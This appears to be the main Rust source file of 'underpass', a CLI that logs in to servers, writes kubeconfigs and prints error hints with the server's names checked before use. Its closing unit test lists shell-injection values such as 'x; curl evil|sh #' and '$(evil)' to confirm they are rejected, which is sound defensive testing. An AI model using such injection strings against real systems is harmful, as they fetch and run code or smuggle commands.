//! `underpass`: logs in at Underpass servers, writes kubeconfigs, and changes a server's directory.

mod args;
mod channels;
mod commands;
mod keyboard;
mod kubeconfig;
mod logins;
mod password;
mod paste;
mod proxy;
mod refusal;
mod roots;
mod secret_file;
mod signals;
mod status;
mod which;

use std::process::ExitCode;

use anyhow::Result;
use clap::{CommandFactory, FromArgMatches};
use underpass_api::client::ClientError;
use underpass_core::{ClusterName, Name};
use underpass_terminal::say;

use crate::args::Cli;
use crate::status::CommandStatus;

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            if let Some(CommandStatus(status)) = error.downcast_ref() {
                return ExitCode::from(*status);
            }
            say!("underpass: {error:#}");
            if let Some(hint) = hint(&error) {
                say!("{hint}");
            }
            ExitCode::FAILURE
        }
    }
}

fn run() -> Result<()> {
    let matches = Cli::command().get_matches();
    let mut cli = Cli::from_arg_matches(&matches).unwrap_or_else(|error| error.exit());
    cli.which.prefer_flags(&matches);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let done = runtime.block_on(commands::run(cli));
    // A write that waits for the reader of a pipe, or for a stopped terminal, does not hold the program up.
    runtime.shutdown_background();
    done
}

/// A remedy, for people at a command line.
fn hint(error: &anyhow::Error) -> Option<String> {
    let error = error.downcast_ref::<ClientError>()?;
    match error {
        ClientError::NoServer(_) => Some(
            "Start `underpass-server serve` there, or name another server with --socket PATH or --api URL."
                .to_owned(),
        ),
        ClientError::Tls(..) => {
            Some("Is --api-ca-file the CA certificate of that server?".to_owned())
        }
        ClientError::Problem(problem) if problem.is(http::StatusCode::NOT_FOUND) => {
            let about = problem.about.as_ref()?;
            // The server's text. Only a name is part of a command.
            match about.kind.as_str() {
                "cluster" => {
                    let name = ClusterName::new(&about.name).ok()?;
                    Some(format!("`underpass cluster add {name}` adds the cluster."))
                }
                "user" => {
                    // Names of users may hold what a shell obeys.
                    let name = Name::new(paste::word(&about.name)?).ok()?;
                    Some(format!("`underpass user add {name}` adds the user."))
                }
                _ => None,
            }
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use underpass_api::{About, Problem};

    use super::*;

    fn hint_about(kind: &str, name: &str) -> Option<String> {
        let mut problem = Problem::new(http::StatusCode::NOT_FOUND, "there is none");
        problem.about = Some(About {
            kind: kind.to_owned(),
            name: name.to_owned(),
        });
        hint(&ClientError::Problem(problem).into())
    }

    #[test]
    fn rule_23_a_servers_text_is_no_command() {
        let cluster = hint_about("cluster", "prod").unwrap();
        assert!(
            cluster.contains("`underpass cluster add prod`"),
            "{cluster}"
        );
        let user = hint_about("user", "alice@example.org").unwrap();
        assert!(
            user.contains("`underpass user add alice@example.org`"),
            "{user}"
        );
        for hostile in [
            "x; curl evil|sh #",
            "$(evil)",
            "--socket=evil",
            "a b",
            "x`evil`",
            "",
        ] {
            assert_eq!(hint_about("cluster", hostile), None, "{hostile}");
            assert_eq!(hint_about("user", hostile), None, "{hostile}");
        }
    }
}
